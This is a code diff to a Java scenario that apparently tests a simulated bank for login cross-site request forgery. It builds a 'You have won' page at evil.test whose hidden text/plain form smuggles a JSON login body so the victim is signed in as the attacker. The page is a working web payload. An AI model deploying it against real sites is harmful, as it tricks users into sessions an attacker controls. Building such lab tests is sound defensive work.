@@ -55,7 +55,8 @@ public final class FixateLoginCsrf implements Scenario {
         Person attacker = new Person(lab.newCustomer().username() + "-x", PASSWORD);
         Lab.require(201, lab.service().register(attacker));
         Browser browser = lab.browser();
-        Tab tab = browser.open(browser.publish(Site.EVIL, SitePage.of(page(browser, lab.carrier(), attacker))));
+        Tab tab =
+                browser.open(browser.publish(Site.EVIL, SitePage.prize().with(form(browser, lab.carrier(), attacker))));
         tab.picture("What the victim sees at evil.test");
 
         lab.step("when she presses the button, and at the bank she is the attacker from then on, that is the prize.");
@@ -63,12 +64,11 @@ public final class FixateLoginCsrf implements Scenario {
         return answer.status() == 200 ? Planted.in(browser, attacker.username()) : Attempt.refusedBy(answer);
     }
 
-    private static String page(Browser browser, Carrier carrier, Person attacker) {
+    private static String form(Browser browser, Carrier carrier, Person attacker) {
         String[] halves = attacker.password().split("=", -1);
         String name = "{\"username\":\"" + attacker.username() + "\",\"password\":\"" + halves[0];
         String value = halves[1] + (carrier.isJwt() ? "\",\"carrier\":\"cookie\"}" : "\"}");
-        return "<!doctype html><html lang=en><title>You have won</title><h1>You have won!</h1>"
-                + "<form method=post action=\"" + browser.bank() + "/auth/login\" enctype=\"text/plain\">"
+        return "<form method=post action=\"" + browser.bank() + "/auth/login\" enctype=\"text/plain\">"
                 + "<input type=hidden name=\"" + name.replace("\"", "&quot;") + "\" value=\""
                 + value.replace("\"", "&quot;") + "\"><button>Claim your prize</button></form>";
     }
